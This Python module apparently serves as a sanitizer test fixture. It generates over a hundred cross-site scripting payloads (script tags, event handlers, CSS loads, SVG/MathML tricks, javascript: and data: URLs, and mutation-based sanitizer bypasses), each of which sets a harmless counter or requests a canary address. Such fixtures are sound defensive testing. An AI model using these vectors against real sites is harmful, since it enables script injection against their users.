"""Words that would rather be a page's code: each would say so, by setting a mark or by asking HIT for something."""

__all__ = ["snippets"]

_RUN = "top.ran=(top.ran||0)+1"
_SCRIPTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script src=HIT></script>
<script src="HIT" async defer></script>
<script type="module">RUN</script>
<script type=module src=HIT></script>
<script/x>RUN</script>
<script
>RUN</script
>
<scr<script>ipt>RUN</scr</script>ipt>
<script>/*</script><script>*/RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</p></article></section></main><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<noscript><p title="</noscript><script>RUN</script>"></noscript>
<template><script>RUN</script></template>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="HIT"></iframe>
<object data="javascript:RUN"></object>
<object data="HIT"></object>
<embed src="HIT">
<applet code="HIT"></applet>
<frameset onload="RUN"><frame src="HIT"></frameset>
<base href="HIT/">
<meta http-equiv="refresh" content="0;url=HIT">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<link rel="stylesheet" href="HIT">
<link rel="preload" as="image" href="HIT">
<link rel="prefetch" href="HIT">
<link rel="icon" href="HIT">
<link rel=import href=HIT>
"""
_HANDLERS = """
<img src=x onerror="RUN">
<img src=x onerror=RUN>
<img src="HIT">
<img srcset="HIT 2x">
<img src=`x`onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x oNeRrOr=RUN>
<img src=x onerror&#61;"RUN">
<img src=x:x onerror=eval(atob('dG9wLnJhbj0x'))>
<picture><source srcset="HIT"><img src=x onerror=RUN></picture>
<video src=x onerror=RUN autoplay></video>
<video poster="HIT"></video>
<video><source onerror="RUN" src=x></video>
<audio src=x onerror=RUN></audio>
<audio src="HIT" autoplay></audio>
<track src="HIT" default>
<body onload=RUN>
<body onpageshow=RUN>
<body background="HIT">
<input autofocus onfocus=RUN>
<input type=image src="HIT" onerror=RUN>
<textarea autofocus onfocus=RUN></textarea>
<select autofocus onfocus=RUN></select>
<button autofocus onfocus=RUN>b</button>
<a autofocus tabindex=1 onfocus=RUN href=#>a</a>
<details open ontoggle=RUN><summary>s</summary></details>
<dialog open oncancel=RUN onclose=RUN><button autofocus onfocus=RUN></dialog>
<marquee onstart=RUN>m</marquee>
<div onmouseover=RUN onpointerenter=RUN style="position:fixed;inset:0">d</div>
<p onanimationstart=RUN style="animation:breathe 1s">p</p>
<p style="transition:all 1s" ontransitionend=RUN>p</p>
<div popover id=pop onbeforetoggle=RUN>p</div>
<form action="HIT"><input type=submit autofocus onfocus=RUN></form>
<form><button formaction="javascript:RUN" autofocus>f</button></form>
<isindex action="javascript:RUN" type=image>
<table background="HIT"><tr><td background="HIT">t</td></tr></table>
" onmouseover="RUN" autofocus onfocus="RUN" x="
' onmouseover='RUN' autofocus onfocus='RUN' x='
` onmouseover=`RUN` x=`
"""
_STYLES = """
<style>@import url("HIT");</style>
<style>*{background:url(HIT)!important}</style>
<style>@font-face{font-family:a;src:url(HIT)}*{font-family:a!important}</style>
<style>p::before{content:url(HIT)}</style>
<p style="background:url(HIT)">p</p>
<p style="background-image:url('HIT');list-style:url(HIT)">p</p>
<p style="width:expression(RUN)">p</p>
<p style="behavior:url(HIT)">p</p>
<p style="-moz-binding:url(HIT#x)">p</p>
<p style="border-image:url(&quot;HIT&quot;) 1">p</p>
<p style="cursor:url(HIT),auto">p</p>
<style><img src="</style><img src=x onerror=RUN>">
"""
_FOREIGN = """
<svg onload=RUN></svg>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="HIT"/></svg>
<svg><script xlink:href="HIT"></script></svg>
<svg><image href="HIT" xlink:href="HIT"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror='RUN'/></svg>#x"/></svg>
<svg><use href="HIT#x"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set attributeName="onmouseover" to="RUN" onbegin="RUN"/></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>
<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>
<svg><style>*{background:url(HIT)}</style></svg>
<svg><filter><feImage href="HIT"/></filter></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mi xlink:href="javascript:RUN">m</mi></math>
<math href="javascript:RUN">m</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">m</maction></math>
"""
_ADDRESSES = """
<a href="javascript:RUN">a</a>
<a href="JaVaScRiPt:RUN">a</a>
<a href=" javascript:RUN">a</a>
<a href="java&#9;script:RUN">a</a>
<a href="java&#10;script:RUN">a</a>
<a href="&#106;avascript:RUN">a</a>
<a href="javascript&colon;RUN">a</a>
<a href="data:text/html,<script>RUN</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">a</a>
<a href="vbscript:RUN">a</a>
<a href="HIT" ping="HIT">a</a>
<area href="javascript:RUN" shape=default>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<object data="data:text/html,<script>RUN</script>"></object>
[a](javascript:RUN)
![a](HIT)
[a](data:text/html,<script>RUN</script>)
<javascript:RUN>
"""
_MUTATIONS = """
<noscript><style></noscript><img src=x onerror=RUN></style></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<table><td><svg><desc><td></desc></svg><style><a title="</style><img src onerror=RUN>">
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<xmp><img src=x onerror=RUN></xmp>
<plaintext><img src=x onerror=RUN>
<p id="a&quot;><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN//">
<![CDATA[><img src=x onerror=RUN>]]>
<?xml version="1.0"?><img src=x onerror=RUN>
<%<img src=x onerror=RUN>
<x/><title><img src=x onerror=RUN></title>
<select><template><img src=x onerror=RUN></template></select>
<b><p></b><a title="</p><img src=x onerror=RUN>">
&lt;img src=x onerror=RUN&gt;
&#60;script&#62;RUN&#60;/script&#62;
{{ 7*7 }}<img src=x onerror=RUN>{% raw %}
${RUN}`<img src=x onerror=RUN>
\u202e<img src=x onerror=RUN>\u2066
"""


def snippets(hit: str) -> tuple[str, ...]:
    """More than a hundred of them; `hit` is an address outside that nobody may ask."""
    found: list[str] = []
    for group in (_SCRIPTS, _HANDLERS, _STYLES, _FOREIGN, _ADDRESSES, _MUTATIONS):
        found += [one for one in group.strip("\n").split("\n") if one]
    numbered = (one.replace("HIT", f"{hit}/{n}") for n, one in enumerate(found, 1))
    return tuple(one.replace("RUN", _RUN) for one in numbered)
